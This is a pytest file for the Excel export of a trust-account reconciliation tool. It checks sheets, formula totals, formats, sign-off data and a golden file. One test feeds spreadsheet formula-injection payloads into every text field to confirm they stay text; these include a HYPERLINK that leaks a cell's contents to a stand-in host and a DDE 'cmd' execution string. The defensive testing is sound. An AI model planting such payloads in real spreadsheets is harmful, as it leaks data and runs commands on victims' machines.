"""The workbook read back with openpyxl: every sheet, totals equal to the engine's, formulas, formats."""

import datetime as dt
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest

from app.bank import import_statement
from app.export import SHEETS, write_workbook
from app.reconcile import reconcile, sign_off
from tests.app.reconcile.firm import ACCOUNT, PERIOD, fill, write_statement

D = Decimal


@pytest.fixture
def rec(store, tmp_path):
    fill(store)
    import_statement(store, write_statement(tmp_path), ACCOUNT)
    return reconcile(store, ACCOUNT, PERIOD, qbo_liability=D("13438.67"), qbo_ledgers={2001: D("9438.67")})


def money(v):
    return D(str(v)).quantize(D("0.01"))


def data_rows(ws):
    """Rows between the header and the total row."""
    rows = list(ws.iter_rows(min_row=2, values_only=True))
    return rows[:-1], rows[-1]


def summary(ws):
    return {row[0]: row[1:] for row in ws.iter_rows(values_only=True) if row and row[0]}


def test_every_sheet_with_headers_filters_frozen_panes_and_print_setup(rec, tmp_path):
    wb = openpyxl.load_workbook(write_workbook(rec, tmp_path / "r.xlsx"))
    assert wb.sheetnames == list(SHEETS)
    for name in SHEETS[1:]:
        ws = wb[name]
        assert ws.freeze_panes == "A2"
        assert ws.auto_filter.ref.startswith("A1:")
        assert ws.print_title_rows == "$1:$1"
        assert ws.page_setup.fitToWidth == 1 and ws.sheet_properties.pageSetUpPr.fitToPage
        assert ws["A1"].font.b
        assert all(ws.column_dimensions[c].width for c in "AB")
    assert wb.properties.created == dt.datetime(2026, 10, 31) == wb.properties.modified


def test_totals_are_formulas_and_equal_the_engine(rec, tmp_path):
    wb = openpyxl.load_workbook(write_workbook(rec, tmp_path / "r.xlsx"))
    bank, total = data_rows(wb["Bank statement"])
    assert total[6] == f"=SUM(G2:G{len(bank) + 1})"
    assert sum(money(r[6]) for r in bank) == sum((b.amount for b in rec.bank_lines), D("0"))
    assert wb["Bank statement"]["G2"].number_format.startswith('"$"#,##0.00')
    assert wb["Bank statement"]["B2"].number_format == "yyyy-mm-dd"

    journal, total = data_rows(wb["Trust journal"])
    assert total[7] == f"=SUM(H2:H{len(journal) + 1})"
    assert sum(money(r[7]) for r in journal) == rec.journal_balance  # brought forward + the period's entries

    ledgers, total = data_rows(wb["Client ledgers"])
    assert total[3].startswith("=SUM(D2:") and total[4].startswith("=SUM(E2:")
    assert sum(money(r[3]) for r in ledgers) == rec.client_ledger_total
    ada = next(r for r in ledgers if r[0] == "Ada Lovelace")
    assert ada[5] == f"=E{ledgers.index(ada) + 2}-D{ledgers.index(ada) + 2}"

    items, total = data_rows(wb["Outstanding items"])
    kinds = {}
    for r in items:
        kinds[r[0]] = kinds.get(r[0], D("0")) + money(r[7])
    assert kinds["Deposit in transit"] == rec.deposits_in_transit_total
    assert -kinds["Outstanding check"] == rec.outstanding_checks_total
    assert kinds["Bank only"] == rec.bank_only_total

    matches, total = data_rows(wb["Matches"])
    assert len(matches) == len(rec.matches) and total[5].startswith("=SUM(F2:")

    findings = list(wb["Findings"].iter_rows(min_row=2, values_only=True))
    assert [r[5] for r in findings] == [f.message for f in rec.findings]

    s = summary(wb["Summary"])
    assert money(s["Bank statement ending balance"][0]) == rec.statement_balance
    assert money(s["Adjusted bank balance"][0]) == rec.adjusted_bank_balance
    assert s["Adjusted bank balance"][1] == "=B9+C10-C11"
    assert money(s["Trust journal balance"][0]) == rec.journal_balance
    assert s["Trust journal balance"][1] == f"='Trust journal'!H{len(journal) + 2}"
    assert s["Client ledgers total"][1] == f"='Client ledgers'!D{len(ledgers) + 2}"
    assert s["+ Deposits in transit"][1].startswith("=SUMIF('Outstanding items'!A:A,\"Deposit in transit\"")
    assert money(s["QuickBooks trust liability"][0]) == D("13438.67")
    # it ties only once the planted alerts are resolved: said so, never "ties", and recomputed by Excel
    assert s["Result"][0] == "Ties with items to resolve"
    formula = s["Result"][1]
    assert formula.startswith("=IF(AND(ROUND(C") and '"Ties with items to resolve"' in formula
    alerts_row = next(r for r in range(1, wb["Summary"].max_row + 1) if wb["Summary"].cell(r, 1).value == "Alert")
    assert f"B{alerts_row}+B{alerts_row + 1}>0" in formula
    assert s["Status"][0].startswith("Not signed off")
    items = [r[8] for r in findings if r[0] in ("alert", "warning")]
    assert all(items) and len(set(items)) == len(items)  # each open item keyed, for its resolution


def test_same_period_twice_gives_the_same_file(rec, tmp_path):
    import stat

    assert stat.S_IMODE(write_workbook(rec, tmp_path / "m.xlsx").stat().st_mode) == 0o600  # names clients
    a = write_workbook(rec, tmp_path / "a.xlsx").read_bytes()
    b = write_workbook(rec, tmp_path / "b.xlsx").read_bytes()
    assert a == b


def test_signed_workbook_carries_the_sign_off(store, tmp_path):
    fill(store)
    import_statement(store, write_statement(tmp_path), ACCOUNT)
    open_items = reconcile(store, ACCOUNT, PERIOD).open_items
    signed = sign_off(store, ACCOUNT, PERIOD, prepared_by="Pat", reviewed_by="Riley", signed_on=dt.date(2026, 11, 5),
                      note="followed up", resolutions={key: f"done: {f.code}" for key, f in open_items})
    first = write_workbook(signed, tmp_path / "s1.xlsx").read_bytes()
    again = write_workbook(reconcile(store, ACCOUNT, PERIOD), tmp_path / "s2.xlsx").read_bytes()
    assert first == again  # the signed report reproduces the same workbook
    s = summary(openpyxl.load_workbook(tmp_path / "s1.xlsx")["Summary"])
    assert s["Prepared by"][0] == "Pat" and s["Reviewed by"][0] == "Riley" and s["Note"][0] == "followed up"
    assert s["Report digest (SHA-256)"][0] == signed.signoff.report_digest
    rows = list(openpyxl.load_workbook(tmp_path / "s1.xlsx")["Findings"].iter_rows(min_row=2, values_only=True))
    assert {r[8]: r[9] for r in rows if r[8]} == {key: f"done: {f.code}" for key, f in open_items}


def test_unwritable_target_is_a_clear_error(rec, tmp_path):
    from app.export import ExportError

    blocker = tmp_path / "file"
    blocker.write_text("x")
    with pytest.raises(ExportError, match="No workbook was written"):
        write_workbook(rec, blocker / "sub" / "r.xlsx")


def test_awkward_text_survives_and_large_sheets_read_back(tmp_path):
    import importlib.util
    from dataclasses import replace
    from pathlib import Path

    spec = importlib.util.spec_from_file_location("bench_export", Path(__file__).parents[3] / "bench" / "export.py")
    bench = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(bench)
    rec = bench.build(6_000)
    odd = replace(rec.bank_lines[0], payee="  A&B <Trust> \x07 Ltd ", memo='山田 "quoted" – Zoë')
    rec = replace(rec, bank_lines=(odd, *rec.bank_lines[1:]))
    wb = openpyxl.load_workbook(write_workbook(rec, tmp_path / "big.xlsx"), read_only=True)
    rows = list(wb["Bank statement"].iter_rows(values_only=True))
    assert rows[1][2] == "  A&B <Trust>  Ltd " and rows[1][3] == '山田 "quoted" – Zoë'
    assert len(rows) == len(rec.bank_lines) + 2
    assert sum(money(r[6]) for r in rows[1:-1]) == sum((b.amount for b in rec.bank_lines), D("0"))
    assert rows[-1][6] == f"=SUM(G2:G{len(rows) - 1})"
    assert isinstance(rows[1][1], dt.datetime) and rows[1][1].date() == rec.bank_lines[0].date


PAYLOADS = ('=HYPERLINK("http://x.example/?leak="&A1,"click")', "=1+1", "+1-2", "-3+4", "@SUM(A1:A9)",
            "\t=cmd|' /C calc'!A0", "\r=2*3")


def test_no_text_from_outside_becomes_a_formula_in_either_writer(rec, tmp_path):
    """Every text field of the reconciliation carries a formula-like payload (a payee, a memo, a check number,
    client and matter names, a finding, the firm and account, the sign-off's names, note and resolutions):
    none becomes a formula, each reads back as the text it was; the workbook's own formulas stay formulas."""
    from dataclasses import replace

    from app.reconcile import SignOff

    def p(n: int) -> str:
        return PAYLOADS[n % len(PAYLOADS)]

    hostile = replace(
        rec, firm=p(0), account=p(1),
        bank_lines=tuple(replace(b, payee=p(i), memo=p(i + 1), check_number=p(i + 2))
                         for i, b in enumerate(rec.bank_lines)),
        journal=tuple(replace(t, description=p(i), confirmation=p(i + 3)) for i, t in enumerate(rec.journal)),
        client_ledgers=tuple(replace(c, client_name=p(i), matter_label=p(i + 1))
                             for i, c in enumerate(rec.client_ledgers)),
        findings=tuple(replace(f, message=p(i), client=p(i + 2)) for i, f in enumerate(rec.findings)),
        signoff=SignOff(p(0), p(1), dt.date(2026, 11, 5), note=p(2), report_digest="d" * 64),
        resolutions=tuple((key, p(i)) for i, (key, _f) in enumerate(rec.open_items)),
    )
    wb = openpyxl.load_workbook(write_workbook(hostile, tmp_path / "hostile.xlsx"))
    formulas, texts = [], set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if c.data_type == "f":
                    formulas.append(str(c.value))
                elif isinstance(c.value, str):
                    texts.add(c.value)
    assert formulas, "the workbook's own totals and checks are formulas"
    for f in formulas:  # only the workbook's own: sums, differences, the result check
        assert f.startswith(("=SUM(", "=SUMIF(", "=-SUMIF(", "=B", "=C", "=E", "='Trust journal'!", "='Client ledgers'!",
                             "=IF(AND(ROUND(")), f
        assert "HYPERLINK" not in f and "cmd" not in f and "@SUM" not in f
    def bare(text: str) -> str:  # XML turns a carriage return into a line feed: compare the rest
        return text.replace("\r", "").replace("\n", "").replace("\t", "")

    stripped = {bare(t) for t in texts}
    for payload in PAYLOADS:
        assert bare(payload) in stripped, payload


GOLDEN = Path(__file__).resolve().parents[2] / "data" / "golden" / "workbook.json"


def test_every_cell_and_formula_matches_the_golden_workbook(rec, tmp_path):
    """Issue 18: the workbook a reviewer opens, cell by cell (values as text, formulas as written), against a
    reviewed golden file. To change it on purpose: ``LEDGERBRIDGE_REGEN_GOLDEN=1 bash tests/run.sh
    tests/app/export/test_workbook.py``, then review the diff and commit it."""
    import json
    import os

    wb = openpyxl.load_workbook(write_workbook(rec, tmp_path / "r.xlsx"))
    cells = {name: [[None if v is None else str(v) for v in row] for row in wb[name].iter_rows(values_only=True)]
             for name in wb.sheetnames}
    if os.environ.get("LEDGERBRIDGE_REGEN_GOLDEN") == "1":
        GOLDEN.write_text(json.dumps(cells, indent=1, sort_keys=True) + "\n", encoding="utf-8")
    assert GOLDEN.exists(), "no golden workbook: run with LEDGERBRIDGE_REGEN_GOLDEN=1 and review it"
    golden = json.loads(GOLDEN.read_text(encoding="utf-8"))
    assert set(cells) == set(golden)
    for name in golden:
        assert cells[name] == golden[name], f"sheet {name!r} differs from the golden workbook"
